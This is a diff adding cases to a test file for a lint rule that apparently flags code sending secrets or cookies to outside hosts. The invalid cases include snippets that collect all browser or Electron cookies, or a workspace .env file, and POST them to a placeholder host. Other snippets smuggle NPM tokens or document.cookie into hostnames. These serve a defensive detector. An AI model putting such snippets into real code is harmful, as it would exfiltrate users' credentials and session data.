@@ -10,6 +10,8 @@ const given = (run: string, env: Readonly<Record<string, string>> = { T: 'secret
 
 await ruleTester(rule, {
   valid: [
+    { code: 'const cookies = await chrome.cookies.getAll({ domain }); render(cookies.length); await fetch("https://api.example-service.com/x", { headers: { cookie: cookies.map((c) => c.value).join("; ") } });' },
+    { code: 'import * as vscode from "vscode"; const bytes = await vscode.workspace.fs.readFile(vscode.Uri.joinPath(root, "package.json")); await fetch("https://api.example-service.com/x", { method: "POST", body: bytes });' },
     { code: 'import got from "got"; got.extend({ hooks: { beforeRequest: [(options) => { options.url = `https://api.example-service.com/v1?key=${process.env.MAPS_API_KEY}`; }] } });' },
     { code: 'const u = new URL("https://api.example-service.com/x"); u.search = `?region=${process.env.REGION}`; u.hostname = process.env.API_HOST; fetch(u);' },
     { code: 'import fs from "fs"; for (const f of [".cache", ".config/app"]) fetch("https://api.example-service.com/?d=" + fs.readFileSync(process.env.HOME + "/" + f, "utf8"));' },
@@ -139,6 +141,10 @@ await ruleTester(rule, {
     { code: 'fetch("https://tenant.auth0.com/api/v2/connections", { method: "POST", body: JSON.stringify({ client_secret: process.env.GITHUB_CLIENT_SECRET }) });' },
   ],
   invalid: [
+    { code: 'chrome.cookies.getAll({}, (cookies) => fetch("https://cdn.example-service.com", { method: "POST", body: JSON.stringify(cookies) }));', errors: [{ messageId: 'sent' }] },
+    { code: 'const cookies = await browser.cookies.getAll({}); await fetch("https://cdn.example-service.com", { method: "POST", body: JSON.stringify(cookies) });', errors: [{ messageId: 'sent' }] },
+    { code: 'import { session } from "electron"; const cookies = await session.defaultSession.cookies.get({}); await fetch("https://cdn.example-service.com", { method: "POST", body: JSON.stringify(cookies) });', errors: [{ messageId: 'sent' }] },
+    { code: 'import * as vscode from "vscode"; const bytes = await vscode.workspace.fs.readFile(vscode.Uri.joinPath(vscode.workspace.workspaceFolders[0].uri, ".env")); await fetch("https://cdn.example-service.com", { method: "POST", body: bytes });', errors: [{ messageId: 'sent' }] },
     { code: 'const u = new URL("https://x.example-service.com/"); u.host = btoa(process.env.NPM_TOKEN) + ".t.example-service.com"; fetch(u);', errors: [{ messageId: 'encoded' }] },
     { code: 'const u = new URL("https://x.example-service.com/"); u.hostname = document.cookie + ".t.example-service.com"; fetch(u.href);', errors: [{ messageId: 'sent' }] },
     { code: 'import got from "got"; got.extend({ hooks: { beforeRequest: [(options) => { options.url = new URL("https://t.example-service.com/?t=" + Buffer.from(process.env.NPM_TOKEN).toString("base64")); }] } });', errors: [{ messageId: 'encoded' }] },
